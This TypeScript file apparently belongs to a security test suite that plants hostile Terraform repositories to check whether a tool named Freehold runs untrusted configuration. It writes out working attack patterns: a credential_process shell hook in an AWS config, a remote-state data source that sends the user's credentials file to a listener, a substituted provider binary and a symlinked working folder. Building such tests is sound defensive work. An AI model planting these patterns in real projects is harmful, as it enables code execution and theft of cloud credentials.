import { mkdir, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { type HostileRepository, put, works } from "../repository.ts";
import type { Trap } from "../trap.ts";

/** Folders in a project that Terraform ran in at some version of Freehold, or might be thought to. */
const roots = [".freehold/stacks/default/collection", ".freehold/stacks/default/environments/dev", "."];

/** Files that Terraform reads because of where they are. */
export const terraformRepositories: readonly HostileRepository[] = [
  {
    what: "an override file whose provider runs a program for its credentials",
    plant: (project, trap) => inEachRoot(project, overrideFiles(trap)),
    outcomes: { check: works, plan: works, up: works },
  },
  {
    what: "a data source that sends the person's credentials away",
    plant: (project, trap) => inEachRoot(project, { "x.tf": dataSource(trap) }),
    outcomes: { plan: works },
  },
  {
    what: "values and a lock file of providers",
    plant: (project) =>
      inEachRoot(project, {
        "x.auto.tfvars": 'region = "eu-north-1"\n',
        ".terraform.lock.hcl": lockFile('  hashes = ["h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="]\n'),
      }),
    outcomes: { plan: works },
  },
  {
    what: "a provider in place of AWS's",
    plant: async (project, trap) => {
      for (const root of roots) await plantProvider(join(project, root), root, trap);
    },
    outcomes: { plan: works },
  },
  {
    what: "a working folder that is a link to another repository",
    plant: async (project, trap) => {
      const other = `${project}-other`;
      await trap.guard(join(other, ".gitignore"), "node_modules\n");
      await trap.guard(join(other, "main.tf.json"), "{}\n");
      await symlink(other, join(project, ".freehold"));
    },
    outcomes: { check: works, plan: works },
  },
];

async function inEachRoot(project: string, files: Readonly<Record<string, string>>): Promise<void> {
  for (const root of roots) await put(join(project, root), files);
}

function overrideFiles(trap: Trap): Readonly<Record<string, string>> {
  return {
    "x_override.tf": 'provider "aws" {\n  profile = "x"\n  shared_config_files = ["./aws.cfg"]\n}\n',
    "aws.cfg": `[profile x]\nregion = us-east-1\ncredential_process = sh -c '${trap.proof("override")}; echo {}'\n`,
  };
}

function dataSource({ listener, credentials }: Trap): string {
  return `data "terraform_remote_state" "x" {
  backend = "http"
  config  = { address = "${listener}/?\${urlencode(file("${credentials}"))}" }
}
`;
}

function lockFile(hashes: string): string {
  const provider = 'provider "registry.terraform.io/hashicorp/aws"';
  return `${provider} {\n  version = "5.100.0"\n  constraints = "5.100.0"\n${hashes}}\n`;
}

async function plantProvider(folder: string, root: string, trap: Trap): Promise<void> {
  const key = root.endsWith("dev") ? "harbor/default/environments/dev" : "harbor/default/collection";
  const backend = {
    bucket: "freehold-state-123456789012-us-east-1",
    encrypt: true,
    key: `${key}.tfstate`,
    region: "us-east-1",
    use_lockfile: true,
  };
  const terraform = {
    backend: { s3: backend },
    required_providers: { aws: { source: "hashicorp/aws", version: "= 5.100.0" } },
    required_version: ">= 1.11",
  };
  const platform = `${process.platform}_${process.arch === "x64" ? "amd64" : process.arch}`;
  const providers = `.terraform/providers/registry.terraform.io/hashicorp/aws/5.100.0/${platform}`;
  await trap.program(join(folder, providers, "terraform-provider-aws_v5.100.0_x5"));
  await mkdir(join(folder, ".terraform"), { recursive: true });
  await writeFile(join(folder, ".terraform/initialised"), JSON.stringify(terraform));
  await writeFile(join(folder, ".terraform.lock.hcl"), lockFile(""));
  const state = { version: 3, backend: { type: "s3", config: backend, hash: 0 } };
  await writeFile(join(folder, ".terraform/terraform.tfstate"), JSON.stringify(state));
}
